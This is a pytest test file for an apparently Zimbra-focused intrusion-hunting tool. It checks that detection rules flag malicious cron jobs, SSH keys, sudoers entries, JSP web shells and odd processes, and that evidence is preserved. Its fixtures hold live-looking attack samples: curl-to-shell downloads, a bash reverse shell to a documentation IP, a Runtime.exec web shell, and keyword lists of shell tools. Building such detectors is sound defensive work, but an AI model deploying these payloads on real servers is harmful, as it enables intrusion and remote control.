"""Every hunt finds its sample, leaves the clean one, and is quiet on a good server."""

import hashlib
import json
import os
import re
import tarfile
import time
import tracemalloc
from pathlib import Path

import pytest

from tests.integrity.site import NOW, SHIPPED, WEB, package, place, put
from zmward.catalog.hunt import Hunt
from zmward.doors.hunted import processes
from zmward.engine.custody import _moment, keep
from zmward.engine.hunt import Hunted, _Hunt, hunt
from zmward.errors import BadFile
from zmward.integrity.hunting import (
    HUNTS,
    OTHERS,
    Process,
    Subject,
    classes,
    compiled,
    hits,
    of_sample,
    process_hits,
    words,
)
from zmward.integrity.names import named
from zmward.integrity.own_jobs import only_shipped
from zmward.reports.integrity_explained import _when

KEY = 'command="/opt/zimbra/libexec/zmrcd" ssh-rsa AAAAB3Nz mail'


def found(subject: Subject, *, owned: bool = False) -> set[str]:
    rows = hits(subject, owned=owned, known=True, as_shipped=False)
    return {one.rule for one in rows}


@pytest.mark.parametrize("row", HUNTS, ids=lambda row: row.id)
class TestEveryHunt:
    def test_finds_its_sample(self, row: Hunt) -> None:
        assert row.id in found(of_sample(row.sample))

    def test_leaves_the_clean_one(self, row: Hunt) -> None:
        assert row.id not in found(of_sample(row.clean))

    def test_says_what_it_is_and_what_to_do(self, row: Hunt) -> None:
        assert all(words(row.id))


@pytest.mark.parametrize("rule", OTHERS)
def test_what_no_row_finds_is_said_too(rule: str) -> None:
    assert all(words(rule))


@pytest.mark.parametrize("table", ["# ZIMBRASTART\n1 1 * * * x\n", "", "# x\n"])
def test_a_table_that_is_cut_or_empty_is_not_the_packages(table: str) -> None:
    assert not only_shipped(table, ("1 1 * * * x\n",))


def test_ids_are_told_apart() -> None:
    ids = [row.id for row in HUNTS]
    assert len({*ids, *OTHERS}) == len(ids) + len(OTHERS)


@pytest.mark.parametrize(
    ("line", "alarm"),
    [
        (KEY, False),
        (f'from="10.0.0.1",{KEY}', False),
        ("restrict," + KEY, False),
        ("# ssh-rsa AAAA old", False),
        ("", False),
        ("ssh-ed25519 AAAAC3Nz x", True),
        (f"ssh-ed25519 AAAAC3Nz {KEY}", True),
        (
            'environment="X=command=\\"/opt/zimbra/libexec/zmrcd\\"," ssh-rsa AAAA x',
            True,
        ),
        ('command="/bin/sh" ssh-rsa AAAA x', True),
        ('command="/opt/zimbra/libexec/zmrcd;sh" ssh-rsa AAAA x', True),
        ('xcommand="/opt/zimbra/libexec/zmrcd" ssh-rsa AAAA x', True),
    ],
)
def test_keys_are_read_as_sshd_reads_them(line: str, *, alarm: bool) -> None:
    path = "/opt/zimbra/.ssh/authorized_keys"
    rules = found(Subject(path, 0o600, "zimbra", f"{line}\n".encode()))
    assert ("key-without-command" in rules) is alarm


@pytest.mark.parametrize(
    ("line", "alarm"),
    [
        ("* * * * * curl -s http://192.0.2.1/a|bash", True),
        ("* * * * * echo Y3VybA== | base64 -d | sh", True),
        ("* * * * * bash -i >& /dev/tcp/192.0.2.1/443 0>&1", True),
        ("* * * * * wget -q -O /tmp/x http://192.0.2.1/x; chmod +x /tmp/x", True),
        ("* * * * *   /tmp/.x", True),
        ("@reboot /var/tmp/run", True),
        ("* * * * * nohup /dev/shm/idle &", True),
        ("0 4 * * * /usr/local/bin/backup-mail", False),
        ("0 4 * * * curl -fsS https://health.example.com/x > /dev/null", False),
        ("0 4 * * * /usr/bin/rsync -a /opt/zimbra/backup/ nas:/mail/", False),
        ("30 2 * * * find /opt/zimbra/log/ -name \\*.log\\* -exec rm {} \\;", False),
        ("*/10 * * * * /opt/zimbra/libexec/zmlogprocess > /tmp/x.out 2>&1", False),
    ],
)
def test_jobs_are_told_apart(line: str, *, alarm: bool) -> None:
    path = "/var/spool/cron/crontabs/zimbra"
    assert bool(found(Subject(path, 0o600, "zimbra", line.encode()))) is alarm


@pytest.mark.parametrize(
    ("line", "alarm"),
    [
        ("%zimbra ALL=NOPASSWD:/opt/zimbra/common/sbin/postfix, /opt/zimbra/x", False),
        ("Defaults:zimbra !requiretty", False),
        ("%wheel ALL=(ALL) NOPASSWD: ALL", False),
        ("zimbra ALL=(root) NOPASSWD: /usr/bin/vim", True),
        ("%zimbra ALL=(ALL) ALL", True),
        ("ALL ALL=(ALL) NOPASSWD: ALL", True),
        ("zimbra ALL=NOPASSWD:/opt/zimbra/x, \\\n  /bin/bash", True),
    ],
)
def test_rules_of_sudo_are_told_apart(line: str, *, alarm: bool) -> None:
    subject = Subject("/etc/sudoers.d/x", 0o440, "root", f"{line}\n".encode())
    assert bool(found(subject)) is alarm


@pytest.mark.parametrize(
    ("page", "name"),
    [
        ("/public/9f3a41c7.jsp", "public_/_9f3a41c7_jsp"),
        ("/public/pre-cache.jsp", "public_/pre_002dcache_jsp"),
        ("/public/jsp/NewWindow_1.jsp", "public_/jsp/NewWindow_005f1_jsp"),
        ("/h/search.jsp", "h/search_jsp"),
    ],
)
def test_classes_are_named_as_jasper_names_them(page: str, name: str) -> None:
    assert compiled(page) == name


def test_a_class_whose_page_is_gone_is_found() -> None:
    work = "/opt/zimbra/jetty_base/work/zimbra/jsp/org/apache/jsp/public_"
    files = [
        f"{work}/login_jsp.class",
        f"{work}/login_jsp$1.class",
        f"{work}/x_jsp.class",
    ]
    pages = [f"/{WEB}/zimbra/public/login.jsp"]
    assert [one.path for one in classes(pages, files)] == [files[2]]


@pytest.mark.parametrize(
    ("program", "there", "owner", "rule"),
    [
        ("/opt/zimbra/common/bin/java", True, "zimbra", ""),
        (
            *("/opt/zimbra/common/bin/java (deleted)", True, "zimbra"),
            "process-of-replaced-program",
        ),
        ("/usr/bin/x (deleted)", False, "zimbra", "process-of-deleted-program"),
        ("/memfd:x (deleted)", False, "zimbra", "process-of-memory"),
        ("/tmp/x", True, "zimbra", "process-open"),
        ("/memfd:runc (deleted)", False, "root", ""),
    ],
)
def test_processes_are_told_apart(
    program: str, owner: str, rule: str, *, there: bool
) -> None:
    rows = process_hits([Process(1, owner, program, there)])
    assert [one.rule for one in rows] == ([rule] if rule else [])


def test_processes_of_this_machine_are_seen() -> None:
    own = {one.number: one for one in processes({str(os.getuid()): "me"})}[os.getpid()]
    assert own.owner == "me"
    assert own.there
    assert own.program == str(Path("/proc/self/exe").readlink())


def rules(root: Path) -> dict[str, set[str]]:
    seen = hunt(place(root))
    assert seen.missed == ()
    rows: dict[str, set[str]] = {}
    for one in seen.hits:
        rows.setdefault(one.path, set()).add(f"{one.level} {one.rule}")
    return rows


def test_a_pristine_server_is_quiet(root: Path) -> None:
    (root / "opt/zimbra/common/sbin/postdrop").chmod(0o2755)
    put(
        root,
        "opt/zimbra/jetty_base/work/zimbra/jsp/org/apache/jsp/public_/login_jsp.class",
        "CAFE",
    )
    assert rules(root) == {}


def test_the_lab_s_tree_is_quiet() -> None:
    tree = Path(__file__).parents[2] / "lab" / "rootfs"
    seen = hunt(place(tree))
    assert seen.files > 150
    assert seen.hits == ()


def customised(root: Path) -> None:
    """Do what sites legitimately do."""
    put(
        root,
        "var/spool/cron/crontabs/zimbra",
        "# ZIMBRASTART\n# ZIMBRAEND\n0 4 * * * /usr/local/bin/backup-mail | logger\n",
    )
    put(root, "etc/cron.d/ping", "5 * * * * root curl -fsS https://h.example/x\n")
    put(root, "etc/sudoers.d/ops", "%ops ALL=(ALL) NOPASSWD: ALL\n")
    put(
        root,
        "etc/systemd/system/backup.service",
        "[Service]\nExecStart=/usr/local/sbin/backup --to /mnt/x\n",
    )
    put(
        root,
        "etc/systemd/system/tmp-clean.service",
        "[Service]\nExecStart=/usr/bin/find /tmp -mtime +9 -delete\n",
    )
    put(root, f"{WEB}/zimbra/skins/own/skin.css", "x")
    put(root, f"{WEB}/zimbra/downloads/MigrationWizard.exe", "MZ")
    put(root, f"{WEB}/zimbra/skins/own/img/logo.png", "x")
    put(root, "opt/zimbra/zimlets-deployed/com_own_zimlet/own.js", "x")
    put(root, "opt/zimbra/conf/nginx/templates_custom/nginx.conf.web", "server {}")
    put(root, "opt/zimbra/.bashrc", "alias ll='ls -l'\nexport PATH=$PATH:/opt/x\n")
    put(root, "opt/zimbra/data/tmp/upload/mail.eml", "From: x")
    put(root, "tmp/build.sh", "#!/bin/sh\n").chmod(0o755)
    put(root, "dev/shm/PostgreSQL.1", "x").chmod(0o600)
    put(root, "etc/pam.d/sshd", "auth required pam_unix.so\n")


def test_a_customised_server_is_quiet(root: Path) -> None:
    customised(root)
    assert hunt(place(root)).alarms == ()
    assert rules(root) == {
        "/var/spool/cron/crontabs/zimbra": {"look job-outside-of-the-block"}
    }


def test_a_careless_server_s_intruder_is_found_without_a_baseline(root: Path) -> None:
    customised(root)
    shell = put(
        root,
        f"{WEB}/zimbra/public/9f3a41c7.jsp",
        '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    )
    put(root, "etc/sudoers.d/90-zimbra-admin", "zimbra ALL=(ALL) NOPASSWD: ALL\n")
    with (root / "opt/zimbra/.ssh/authorized_keys").open("a") as file:
        file.write("ssh-ed25519 AAAAC3 deploy@unknown\n")
    with (root / "var/spool/cron/crontabs/zimbra").open("a") as file:
        file.write("*/15 * * * * curl -fsSL http://203.0.113.66/u.sh | sh\n")
    put(root, "opt/zimbra/lib/ext/up/up.jar", "PK")
    found_rules = rules(root)
    assert found_rules[f"/{WEB}/zimbra/public/9f3a41c7.jsp"] == {
        "alarm foreign-page",
        "alarm page-runs-commands",
        "look page-of-no-package",
    }
    assert found_rules["/etc/sudoers.d/90-zimbra-admin"] == {"alarm zimbra-is-root"}
    assert found_rules["/opt/zimbra/.ssh/authorized_keys"] == {
        "alarm key-without-command"
    }
    assert found_rules["/var/spool/cron/crontabs/zimbra"] == {
        "alarm job-fetches-code",
        "look job-outside-of-the-block",
    }
    assert found_rules["/opt/zimbra/lib/ext/up/up.jar"] == {
        "look extension-of-no-package"
    }
    assert len(found_rules) == 5
    assert shell.exists()


def test_a_shell_in_the_place_of_a_shipped_page_is_found(root: Path) -> None:
    login = f"{WEB}/zimbra/public/login.jsp"
    put(root, login, "<% new ProcessBuilder(x).start(); %>")
    assert rules(root) == {f"/{login}": {"alarm page-runs-commands"}}


def test_what_a_package_ships_is_left_out(root: Path) -> None:
    page = f"{WEB}/zimbra/h/tool.jsp"
    text = "<% new ProcessBuilder(x).start(); %>"
    put(root, page, text)
    package(root, {**SHIPPED, page: text})
    assert rules(root) == {}


def test_without_a_package_database_nobody_is_accused(root: Path) -> None:
    (root / "var/lib/dpkg/status").unlink()
    seen = hunt(place(root))
    assert seen.trouble
    assert seen.hits == ()


def test_listed_folders_hide_nothing_below(root: Path) -> None:
    # A shipped name elsewhere, below, or as a part of another is no excuse.
    for path in (
        f"{WEB}/zimbraAdmin/public/jsp/zimbraConfig.jsp",
        f"{WEB}/zimbra/public/login.jsp.jsp",
        f"{WEB}/zimbra/img/login.jsp",
        f"{WEB}/zimbra/downloads/x.exe.jsp",
        f"{WEB}/zimbra/downloads/x.exe/y.exe",
        f"{WEB}/zimbra/public/jsp/Zimbra.jsp/x.jsp",
    ):
        put(root, path, "x")
        assert "alarm foreign-page" in rules(root)[f"/{path}"]


@pytest.mark.parametrize("ending", ["JSP", "Jspx", "JSPF", "xsp", "PHP", "Jar"])
def test_an_ending_in_capitals_is_an_ending(root: Path, ending: str) -> None:
    # Jetty's own list of pages holds them in capitals.
    put(root, f"{WEB}/zimbra/public/x.{ending}", "x")
    assert "alarm foreign-page" in rules(root)[f"/{WEB}/zimbra/public/x.{ending}"]


def test_links_and_pipes_are_not_opened(root: Path) -> None:
    (root / f"{WEB}/zimbra/public/a.jsp").symlink_to("/etc/passwd")
    os.mkfifo(root / f"{WEB}/zimbra/public/b.jsp")
    page = f"/{WEB}/zimbra/public/a.jsp"
    assert rules(root) == {page: {"alarm link-out-of-the-web"}}


@pytest.mark.parametrize("end", ["| sh", "-A \r| sh", "-A x\r| sh", "\\\r\n| sh"])
def test_no_carriage_return_cuts_a_job_in_two(end: str) -> None:
    line = f"* * * * * curl http://203.0.113.66/u {end}\n".encode()
    path = "/var/spool/cron/crontabs/zimbra"
    assert "job-fetches-code" in found(Subject(path, 0o600, "zimbra", line))


def test_what_was_found_is_kept(root: Path, tmp_path: Path) -> None:
    text = '<% Runtime.getRuntime().exec("id"); %>'
    shell = put(root, f"{WEB}/zimbra/public/x\n.jsp", text)
    shell.chmod(0o754)
    os.utime(shell, ns=(10**18, 10**18 + 5))
    seen: Hunted = hunt(place(root))
    paths = [one.path for one in seen.hits]
    kept = keep(place(root), tmp_path / "evidence", paths, NOW, "0")
    tar = Path(kept.path)
    assert kept.files == 1
    assert tar.stat().st_mode & 0o777 == 0o600
    assert hashlib.sha256(tar.read_bytes()).hexdigest() == kept.digest
    with tarfile.open(tar) as archive:
        members = {one.name: one for one in archive}
        note = archive.extractfile("custody.json")
        assert note is not None
        custody = json.load(note)
        (name,) = set(members) - {"custody.json"}
        copy = archive.extractfile(name)
        assert copy is not None
        assert copy.read() == text.encode()
    assert (members[name].mode, members[name].mtime) == (0o754, 10**9)
    (row,) = custody["files"]
    assert row["sha256"] == hashlib.sha256(text.encode()).hexdigest()
    assert row["mode"] == "0754"
    assert custody["host"] == "mail.example.test"
    assert custody["taken"] == NOW.isoformat()
    assert shell.stat().st_atime_ns == 10**18


def test_no_name_and_no_time_of_a_file_keeps_it_from_being_kept(
    root: Path, tmp_path: Path
) -> None:
    put(root, f"{WEB}/zimbra/public/{os.fsdecode(bytes([255]))}.jsp", "x")
    path = f"/{WEB}/zimbra/public/\\xff.jsp"
    kept = keep(place(root), tmp_path / "evidence", [path], NOW, "0")
    with tarfile.open(kept.path) as archive:
        note = archive.extractfile("custody.json")
        assert note is not None
        (row,) = json.load(note)["files"]
        assert named(row["member"]) in archive.getnames()
    far = 260_000_000_000
    assert _moment(far * 10**9) == _when(far * 10**9) == f"@{far}"


def test_a_tree_behind_a_link_is_not_passed_over(root: Path) -> None:
    put(root, f"{WEB}/zimbra/public/x.jsp", "x")
    (root / "opt").rename(root / "data")
    (root / "opt").symlink_to("data")
    (root / "usr/lib/systemd").mkdir(parents=True)
    (root / "lib").symlink_to("usr/lib")
    found = hunt(place(root))
    assert {path for path, _ in found.missed} >= {"/opt/zimbra"}
    assert not [path for path, _ in found.missed if path.startswith("/lib")]
    assert found.code == 3


def test_evidence_is_never_overwritten(root: Path, tmp_path: Path) -> None:
    keep(place(root), tmp_path, [], NOW, "0")
    with pytest.raises(BadFile):
        keep(place(root), tmp_path, [], NOW, "0")


def test_hostile_contents_take_no_time() -> None:
    for text in (
        b"curl " * 60_000,
        b"getRuntime " * 25_000,
        b"(" * 262_144,
        b"a" * 262_144,
    ):
        for path in (
            "/etc/cron.d/x",
            f"/{WEB}/zimbra/h/x.jsp",
            "/opt/zimbra/.ssh/authorized_keys",
            "/etc/sudoers",
            "/etc/systemd/system/x.service",
        ):
            found(Subject(path, 0o644, "zimbra", text))


_LINES = (
    *("curl ", "curl -o a ", "curl -o a;", "curl|/", "curl| sudo ", "curl|\v", "|/"),
    *("base64 -d ", "base64 -d|/", "base64\v", "nc -a", "mkfifo ", "eval ", "sh -c\v"),
)


@pytest.mark.parametrize("body", _LINES)
@pytest.mark.parametrize("head", ["", "curl x -o ", "base64 -d ", "nc "])
def test_code_that_is_fetched_is_looked_for_in_one_pass(head: str, body: str) -> None:
    """Four times the text take four times as long: not sixteen, not sixty-four."""
    row = next(row for row in HUNTS if row.id == "job-fetches-code")
    own = re.compile(row.holds.encode(), re.IGNORECASE | re.DOTALL)

    def taken(size: int) -> float:
        text = (head + body * size)[:size].encode()
        assert not own.search(text)
        began = time.process_time()
        for _ in range(5):
            own.search(text)
        return time.process_time() - began

    assert min(taken(4096) for _ in range(5)) < 10 * min(taken(1024) for _ in range(5))


def test_a_hunt_holds_no_contents(root: Path) -> None:
    """User zimbra could fill the host's memory with long pages of nothing."""
    for number in range(60):
        put(root, f"{WEB}/zimbra/public/{number}.jsp", "a" * 600_000)
    work = _Hunt(place(root))
    tracemalloc.start()
    try:
        work.look()
        held, _ = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert sum(one.path.endswith(".jsp") for one in work.found()) >= 60
    assert held < 4 << 20
